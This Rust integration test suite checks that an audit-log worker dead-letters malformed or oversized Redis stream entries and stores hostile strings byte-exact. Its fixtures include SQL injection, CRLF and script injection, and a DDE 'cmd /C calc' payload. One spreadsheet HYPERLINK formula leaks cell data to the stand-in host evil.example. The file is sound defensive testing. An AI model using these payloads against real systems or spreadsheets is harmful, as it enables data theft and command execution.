//! Hostile input through the real stream source: every case
//! either becomes a dead letter with its stable reason code and original
//! bytes, or a row that holds exactly what was sent; the worker stays up
//! throughout, and a flood of 10 MB entries is refused without parsing.

use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::{json, Value};

use crate::common::*;
use crate::stream_ingest::SQL_CANONICAL_HASH;

/// An event JSON document with one field's raw JSON text spliced in, for
/// inputs serde_json would never produce itself.
pub fn raw_event(id: &str, extra: &str) -> Vec<u8> {
    format!(
        r#"{{"eventId":"{id}","timestamp":"{}","action":"hostile.test","status":"success"{extra}}}"#,
        ts(5)
    )
    .into_bytes()
}

/// `n` keys in one custom object.
pub fn many_keys(n: usize) -> String {
    let mut s = String::with_capacity(n * 12);
    s.push_str(",\"many\":{");
    for i in 0..n {
        if i > 0 {
            s.push(',');
        }
        s.push_str(&format!("\"k{i}\":{i}"));
    }
    s.push('}');
    s
}

/// Inputs that must be refused, each with the reason code it must get:
/// (what it is, reason, raw bytes). Shared by the stream and BullMQ suites;
/// assumes `validation.max_event_bytes` raised to 4 MiB, so the parser
/// itself meets the 100,000-deep array.
pub fn rejected_cases() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    vec![
        ("invalid UTF-8", "invalid_json", {
            let mut b = raw_event("x1", r#","note":"ok""#);
            let at = b.len() - 4;
            b[at] = 0xC3; // a lone UTF-8 lead byte inside a string
            b
        }),
        ("overlong UTF-8 NUL", "invalid_json", {
            let mut b = raw_event("x2", r#","note":"__""#);
            let at = b.len() - 4;
            b[at] = 0xC0;
            b[at + 1] = 0x80;
            b
        }),
        ("escaped NUL in a hashed field", "nul_character", {
            let mut b = raw_event("x3", "");
            let s = String::from_utf8(b.clone())
                .unwrap()
                .replace("hostile.test", "a\\u0000b");
            b.clear();
            b.extend_from_slice(s.as_bytes());
            b
        }),
        (
            "escaped NUL in a custom key",
            "nul_character",
            raw_event("x4", r#","c":{"k\u0000":1}"#),
        ),
        (
            "raw NUL byte in a string",
            "invalid_json",
            raw_event("x5", ",\"note\":\"a\u{0}b\""),
        ),
        (
            "lone high surrogate",
            "invalid_json",
            raw_event("x6", r#","note":"\ud800""#),
        ),
        (
            "lone low surrogate",
            "invalid_json",
            raw_event("x7", r#","note":"x\udfffy""#),
        ),
        (
            "number out of range",
            "invalid_json",
            raw_event("x8", r#","n":1e400"#),
        ),
        (
            "duplicate top-level key",
            "duplicate_key",
            raw_event("x9", r#","action":"other.action""#),
        ),
        (
            "duplicate nested key",
            "duplicate_key",
            raw_event("x10", r#","c":{"a":1,"a":2}"#),
        ),
        (
            "100,000-deep array",
            "nesting_too_deep",
            raw_event("x11", &format!(",\"d\":{deep}")),
        ),
        (
            "200-deep array",
            "nesting_too_deep",
            raw_event(
                "x12",
                &format!(",\"d\":{}{}", "[".repeat(200), "]".repeat(200)),
            ),
        ),
        ("year 9999", "timestamp_out_of_range", {
            br#"{"timestamp":"9999-12-31T23:59:59.999Z","action":"a","status":"success"}"#.to_vec()
        }),
        ("year 1", "timestamp_out_of_range", {
            br#"{"timestamp":"0001-01-01T00:00:00Z","action":"a","status":"success"}"#.to_vec()
        }),
        ("JavaScript expanded year", "invalid_event", {
            br#"{"timestamp":"+275760-09-13T00:00:00.000Z","action":"a","status":"success"}"#
                .to_vec()
        }),
        ("month 13", "invalid_event", {
            br#"{"timestamp":"2025-13-01T00:00:00Z","action":"a","status":"success"}"#.to_vec()
        }),
        ("byte order mark", "invalid_json", {
            let mut b = "\u{feff}".as_bytes().to_vec();
            b.extend(raw_event("x13", ""));
            b
        }),
        ("empty entry", "invalid_json", Vec::new()),
        (
            "JSON string, not object",
            "invalid_json",
            br#""{\"action\":1}""#.to_vec(),
        ),
        (
            "over the size limit",
            "too_large",
            vec![b' '; (4 << 20) + 1],
        ),
    ]
}

/// Events that must be stored exactly as sent: SQL-looking strings,
/// header and formula injection, odd Unicode, a month far in the past.
pub fn accepted_cases() -> Vec<Value> {
    let sql_like = "'); DROP TABLE audit_log; -- $$ \\x00 E'\\\\' /* */ \" ; SELECT pg_sleep(10);";
    let crlf = "ok\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>";
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let unicode = "\u{202e}gnp.exe \u{200b}\u{feff} 😀 \u{7f}\u{1b}[31m";
    vec![
        json!({"eventId": "ok-sql", "timestamp": ts(1), "action": sql_like, "status": "success",
               "principalId": sql_like, "outcomeDescription": sql_like, "c": {sql_like: sql_like}}),
        json!({"eventId": "ok-crlf", "timestamp": ts(1), "action": crlf, "status": "failure",
               "targetResourceId": crlf, "sessionContext": {"userAgent": crlf}}),
        json!({"eventId": "ok-formula", "timestamp": ts(1), "action": "+cmd|' /C calc'!A0", "status": "attempt",
               "principalId": "@SUM(1+1)*cmd|' /C calc'!A0", "organizationId": "-2+3", "outcomeDescription": formula}),
        json!({"eventId": "ok-unicode", "timestamp": ts(1), "action": unicode, "status": "success",
               "targetResourceType": unicode}),
        // A month far behind the ones created ahead: its partition is made on
        // demand (through the SECURITY DEFINER function).
        json!({"eventId": "ok-old", "timestamp": "2017-03-01T00:00:00.000+05:30", "action": "a", "status": "success"}),
    ]
}

/// Every accepted event's hashed and schema columns exactly as sent, the
/// row re-verifying in SQL alone; the 100,000-key object kept whole and the
/// integer beyond 64 bits read as JavaScript's JSON.parse reads it.
pub async fn assert_stored_as_sent(env: &TestEnv, accepted: &[Value]) {
    for e in accepted {
        let row = env
            .pg
            .query_one(
                &format!(
                    "SELECT timestamp_raw, action, status, principal_id, organization_id,
                            target_resource_type, target_resource_id, outcome_description,
                            session_context, details, hash = {SQL_CANONICAL_HASH}
                     FROM audit_log WHERE event_id = $1"
                ),
                &[&e["eventId"].as_str().unwrap()],
            )
            .await
            .unwrap();
        let s = |k: &str| e.get(k).and_then(Value::as_str).map(str::to_string);
        let id = &e["eventId"];
        assert_eq!(Some(row.get::<_, String>(0)), s("timestamp"), "{id}");
        assert_eq!(Some(row.get::<_, String>(1)), s("action"), "{id}");
        assert_eq!(Some(row.get::<_, String>(2)), s("status"), "{id}");
        assert_eq!(row.get::<_, Option<String>>(3), s("principalId"), "{id}");
        assert_eq!(row.get::<_, Option<String>>(4), s("organizationId"), "{id}");
        assert_eq!(
            row.get::<_, Option<String>>(5),
            s("targetResourceType"),
            "{id}"
        );
        assert_eq!(
            row.get::<_, Option<String>>(6),
            s("targetResourceId"),
            "{id}"
        );
        assert_eq!(
            row.get::<_, Option<String>>(7),
            s("outcomeDescription"),
            "{id}"
        );
        assert_eq!(
            row.get::<_, Option<Value>>(8).as_ref(),
            e.get("sessionContext"),
            "{id}"
        );
        assert_eq!(
            row.get::<_, Option<Value>>(9),
            e.get("c").map(|c| json!({"c": c})),
            "{id}"
        );
        assert!(
            row.get::<_, bool>(10),
            "{id}: stored row re-hashes to its hash"
        );
    }
    let (keys, big): (i64, String) = env
        .pg
        .query_one(
            "SELECT (SELECT count(*) FROM audit_log, jsonb_object_keys(details->'many') WHERE event_id = 'ok-many'),
                    (SELECT details->>'n' FROM audit_log WHERE event_id = 'ok-bigint')",
            &[],
        )
        .await
        .map(|r| (r.get(0), r.get(1)))
        .unwrap();
    assert_eq!(keys, 100_000);
    assert_eq!(
        big, "18446744073709552000",
        "a double, as JSON.parse reads it"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_entries_are_dead_lettered_with_stable_codes_or_stored_byte_exact() {
    let env = TestEnv::new("hostile").await;
    let mut config = env.config();
    // An operator who raised the size limit: the parser itself must then
    // cope with 100,000-key objects and 100,000-deep nesting.
    config.validation.max_event_bytes = 4 << 20;

    let rejected = rejected_cases();
    // Accepted as sent: the stored columns must be byte-exact.
    let accepted = accepted_cases();
    // 100,000 keys: allowed under the raised limit, kept whole in details.
    let many = raw_event("ok-many", &many_keys(100_000));
    // Integers beyond 64 bits become doubles, as in JavaScript's JSON.parse.
    let big_int = raw_event("ok-bigint", r#","n":18446744073709551617"#);

    let mut payloads: Vec<(Option<&str>, Vec<u8>)> = Vec::new();
    for (_, _, bytes) in &rejected {
        payloads.push((None, bytes.clone()));
    }
    for e in &accepted {
        payloads.push((None, e.to_string().into_bytes()));
    }
    payloads.push((None, many.clone()));
    payloads.push((None, big_int.clone()));
    // An entry without a `data` field, and one with a header-like job name.
    let ids = env.add_entries(&payloads).await;
    let mut conn = env.redis_conn().await;
    let no_data: String = redis::cmd("XADD")
        .arg(&env.stream)
        .arg("*")
        .arg("payload")
        .arg("x")
        .query_async(&mut conn)
        .await
        .unwrap();
    // A valid event under a 20 KiB job name: too large as an entry.
    let long_name = "n".repeat(20_000);
    let long_name_data = raw_event("x14", "");
    let long_name_id = env
        .add_entries(&[(Some(long_name.as_str()), long_name_data.clone())])
        .await
        .remove(0);
    let worker = InProcessWorker::start(config);
    let expected_rows = (accepted.len() + 2) as i64;
    let expected_letters = rejected.len() + 2;
    wait_until(
        Duration::from_secs(90),
        "every hostile entry handled",
        || async {
            env.row_count().await == expected_rows
                && env.dlq_len().await == expected_letters
                && env.pending_count().await == 0
        },
    )
    .await;

    // The worker is still up and still ingesting.
    assert!(!worker.task.is_finished(), "worker exited on hostile input");
    env.add_events(&[event(77)]).await;
    wait_until(
        Duration::from_secs(30),
        "ingestion after the storm",
        || async { env.row_count().await == expected_rows + 1 },
    )
    .await;
    let health = reqwest::get(format!("http://127.0.0.1:{}/healthz", env.http_port))
        .await
        .unwrap();
    assert_eq!(health.status(), 200);
    worker.stop().await;

    let letters = env.dlq_entries().await;
    for (i, (what, reason, bytes)) in rejected.iter().enumerate() {
        let source = format!("stream:{}:{}", env.stream, ids[i]);
        let letter = letters
            .iter()
            .find(|l| l["source"] == source.as_bytes())
            .unwrap_or_else(|| panic!("no dead letter for {what}"));
        assert_eq!(
            String::from_utf8_lossy(&letter["reason"]),
            *reason,
            "{what}: {}",
            String::from_utf8_lossy(&letter["error"])
        );
        assert_eq!(&letter["data"], bytes, "{what}: original bytes kept");
        assert!(
            letter["error"].len() < 2_000,
            "{what}: the error text stays short, whatever the input"
        );
    }
    let no_data_letter = letters
        .iter()
        .find(|l| l["source"] == format!("stream:{}:{no_data}", env.stream).as_bytes())
        .expect("dead letter for the entry without data");
    assert_eq!(no_data_letter["reason"], b"invalid_event");
    let long_name_letter = letters
        .iter()
        .find(|l| l["source"] == format!("stream:{}:{long_name_id}", env.stream).as_bytes())
        .expect("dead letter for the entry with a 20 KiB name");
    assert_eq!(long_name_letter["reason"], b"too_large");
    assert_eq!(long_name_letter["data"], long_name_data);
    assert_eq!(long_name_letter["name"], long_name.as_bytes());

    assert_stored_as_sent(&env, &accepted).await;
    let tables: Vec<String> = env
        .column(
            "SELECT tablename::text FROM pg_tables WHERE schemaname = current_schema() ORDER BY 1",
        )
        .await;
    assert!(
        tables.contains(&"audit_log_y2017m02".to_string()),
        "{tables:?}"
    );
    env.cleanup().await;
}

/// Walks `env.dlq` one dead letter per reply: a reply of many 10 MB
/// letters would outlast the client's response timeout.
pub struct DeadLetterWalk {
    conn: redis::aio::MultiplexedConnection,
    dlq: String,
    start: String,
}

impl DeadLetterWalk {
    pub async fn new(env: &TestEnv) -> Self {
        Self {
            conn: env.redis_conn().await,
            dlq: env.dlq.clone(),
            start: "-".to_string(),
        }
    }

    /// The next dead letter, or `None` past the last one.
    pub async fn next(&mut self) -> Option<audit_worker::source::stream::StreamEntry> {
        let v: redis::Value = redis::cmd("XRANGE")
            .arg(&self.dlq)
            .arg(&self.start)
            .arg("+")
            .arg("COUNT")
            .arg(1)
            .query_async(&mut self.conn)
            .await
            .unwrap();
        let letter = audit_worker::source::stream::parse_entries(&v).pop()?;
        self.start = format!("({}", letter.id);
        Some(letter)
    }
}

/// Peak resident memory (VmHWM) and current (VmRSS) of a process, in KiB.
pub fn memory_kib(pid: u32) -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let field = |name: &str| {
        status
            .lines()
            .find(|l| l.starts_with(name))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|v| v.parse().ok())
            .unwrap_or(0)
    };
    (field("VmHWM:"), field("VmRSS:"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_10_mb_entries_is_refused_as_too_large_and_the_worker_stays_up() {
    let env = TestEnv::new("flood10mb").await;
    let entries: usize = std::env::var("HOSTILE_FLOOD_ENTRIES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(20);
    let read_count = std::env::var("HOSTILE_FLOOD_READ_COUNT").unwrap_or_else(|_| "500".into());
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_audit-worker"));
    cmd.arg("run")
        .envs(env.env_vars())
        .env("AUDIT_WORKER__STREAM__READ_COUNT", &read_count)
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    // Valid JSON of 10 MB (one long string), so only the size check stops it.
    let ten_mb = raw_event("big", &format!(",\"blob\":\"{}\"", "A".repeat(10 << 20)));
    // Half the flood is waiting before the worker starts (read by the
    // bounded read, never entering the worker), half arrives while it runs
    // (some of it through the one-entry wake-up read).
    let before = entries / 2;
    for i in 0..before {
        env.add_entries(&[(None, ten_mb.clone())]).await;
        if i % 5 == 4 {
            env.add_events(&[event(i)]).await;
        }
    }
    let mut child = cmd.spawn().expect("worker binary starts");
    env.wait_for_schema().await;
    let idle = memory_kib(child.id());
    for i in before..entries {
        env.add_entries(&[(None, ten_mb.clone())]).await;
        if i % 5 == 4 {
            env.add_events(&[event(i)]).await;
        }
    }
    let valid = (entries / 5) as i64;
    wait_until(Duration::from_secs(180), "flood handled", || async {
        env.dlq_len().await == entries && env.row_count().await == valid
    })
    .await;
    assert!(child.try_wait().unwrap().is_none(), "worker still running");
    let (hwm, rss) = memory_kib(child.id());
    eprintln!(
        "flood of {entries} x 10 MB entries (stream.read_count {read_count}): worker RSS idle {} MiB, \
         peak (VmHWM) {} MiB, after {} MiB",
        idle.1 / 1024,
        hwm / 1024,
        rss / 1024
    );
    // The bound this test exists for: oversized entries are dead-lettered
    // inside Redis, so the worker holds at most the one entry of a wake-up
    // read (plus its copy in the dead letter it writes), never a whole
    // reply of them. Before the bounded read, 20 entries here peaked
    // above 400 MiB.
    assert!(
        hwm < 160 * 1024,
        "worker peak RSS {} MiB during the flood: oversized entries reached the worker",
        hwm / 1024
    );
    let mut letters = DeadLetterWalk::new(&env).await;
    let mut checked = 0;
    while let Some(letter) = letters.next().await {
        assert_eq!(letter.field("reason"), Some(&b"too_large"[..]));
        assert!(
            letter.field("data") == Some(&ten_mb[..]),
            "original bytes kept"
        );
        checked += 1;
    }
    assert_eq!(checked, entries);
    Command::new("kill")
        .arg("-TERM")
        .arg(child.id().to_string())
        .status()
        .unwrap();
    assert!(child.wait().unwrap().success());
    env.cleanup().await;
}
